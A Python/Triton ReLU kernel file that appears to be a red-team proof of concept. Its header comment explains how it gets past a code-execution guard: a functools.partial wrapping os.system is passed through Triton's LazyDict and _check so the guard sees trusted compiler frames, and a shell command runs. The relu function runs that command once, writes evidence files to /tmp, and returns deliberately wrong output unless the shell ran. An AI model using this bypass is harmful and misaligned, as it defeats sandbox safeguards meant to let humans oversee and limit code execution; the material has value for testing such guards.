# LazyDict.get (compiler.py: a launch entry and callback caller) calls Triton's own
# compiler/code_generator.py _check, which the guard trusts as machinery; _check calls the msg_fn
# it is handed: functools.partial(os.system, ...) has no frame of its own, so the asking frame is
# _check (machinery), and the shell runs.
import functools
import os

import torch
import triton
import triton.language as tl
from triton.compiler.compiler import LazyDict
from triton.compiler.code_generator import _check


@triton.jit
def _relu_kernel(x_ptr, y_ptr, n_elements, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offsets = pid.to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.where(x < 0.0, 0.0, x)
    tl.store(y_ptr + offsets, y, mask=mask)


_RAN = []


def relu(input: torch.Tensor, inplace: bool = False) -> torch.Tensor:
    if not _RAN:
        _RAN.append(True)
        cmd = "echo shell ran as $(id -u) in $(pwd) > /tmp/rt2/redteam/EVIDENCE_shell.txt; " \
              "echo ran as $(id -u) > shell_ran.txt"
        lazy = LazyDict({})
        lazy.add(_check, (False, functools.partial(os.system, cmd)))
        try:
            lazy.get()
        except TypeError:  # (_check raises TypeError(<exit status>))
            pass
    # proof the shell ran: only it wrote this file (the output is garbage otherwise)
    try:
        with open("shell_ran.txt") as f:
            ok = f.read().startswith("ran as")
    except OSError:
        ok = False
    if not ok:
        return torch.full_like(input, 12345.0)
    x = input.contiguous()
    y = x if (inplace and x is input) else torch.empty_like(x)
    n = x.numel()
    if n:
        BLOCK = 1024
        _relu_kernel[(triton.cdiv(n, BLOCK),)](x, y, n, BLOCK=BLOCK)
    if inplace:
        if y is not input:
            input.copy_(y)
        return input
    return y.view(input.shape)
